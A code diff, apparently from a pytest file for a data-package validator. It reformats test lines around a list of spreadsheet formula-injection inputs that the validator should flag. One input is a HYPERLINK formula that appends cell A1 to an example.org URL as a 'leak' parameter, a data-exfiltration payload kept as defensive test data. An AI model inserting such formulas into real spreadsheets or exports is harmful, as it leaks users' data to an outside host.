@@ -10,7 +10,11 @@ import pytest
 
 from minipkg import write_package
 
-FIELDS = [{"name": "id", "type": "integer"}, {"name": "text", "type": "string"}, {"name": "amount", "type": "number"}]
+FIELDS = [
+    {"name": "id", "type": "integer"},
+    {"name": "text", "type": "string"},
+    {"name": "amount", "type": "number"},
+]
 # (cell, flagged): OWASP's starting characters, and what starts with them but is only a number or a phone number.
 CELLS = [
     ('=HYPERLINK("https://example.org/?leak="&A1,"click")', True),
@@ -52,7 +56,9 @@ def test_formula_cells_are_warnings_and_numbers_and_phone_numbers_are_not(run, p
 
 
 def test_a_number_field_is_not_read_for_formulas(run, tmp_path):
-    pkg = write_package(tmp_path / "pkg", [{"id": 1, "text": "x", "amount": "-5"}], fields=FIELDS, key=["id"])
+    pkg = write_package(
+        tmp_path / "pkg", [{"id": 1, "text": "x", "amount": "-5"}], fields=FIELDS, key=["id"]
+    )
     result = run("validate", pkg, "--format", "json")
     assert result.exit_code == 0, result.output
     assert json.loads(result.stdout)["findings"] == []
